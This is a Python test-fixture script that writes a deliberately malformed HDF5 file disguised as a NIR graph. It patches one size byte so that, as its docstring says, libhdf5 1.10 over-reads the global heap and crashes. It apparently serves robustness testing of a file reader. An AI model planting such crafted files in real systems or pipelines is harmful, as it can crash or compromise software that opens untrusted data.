#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes tests/golden/hostile/heap.nir, an HDF5 file that crashes libhdf5 1.10:

    /usr/bin/python3 tests/golden/make_hostile_hdf5.py

It looks like a NIR graph whose type is a variable-length string, as NIR's own writer stores it. The string's object in the global heap says that it has
2^56 bytes more than it has: H5HG_read copies as many as the object says, not as many as the string has."""

import os

import h5py

PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile", "heap.nir")
TYPE = b"NIRGraph"


def main():
    os.makedirs(os.path.dirname(PATH), exist_ok=True)
    with h5py.File(PATH, "w", libver="latest") as f:
        f.create_dataset("version", data="1.0", track_times=False)
        node = f.create_group("node")
        node.create_dataset("type", data=TYPE.decode(), track_times=False)
    data = bytearray(open(PATH, "rb").read())
    at = data.index(TYPE)  # behind the object's size, 8 bytes little-endian
    assert data.count(TYPE) == 1 and data[at - 8] == len(TYPE) and not any(data[at - 7:at])
    data[at - 1] = 1
    open(PATH, "wb").write(data)


if __name__ == "__main__":
    main()
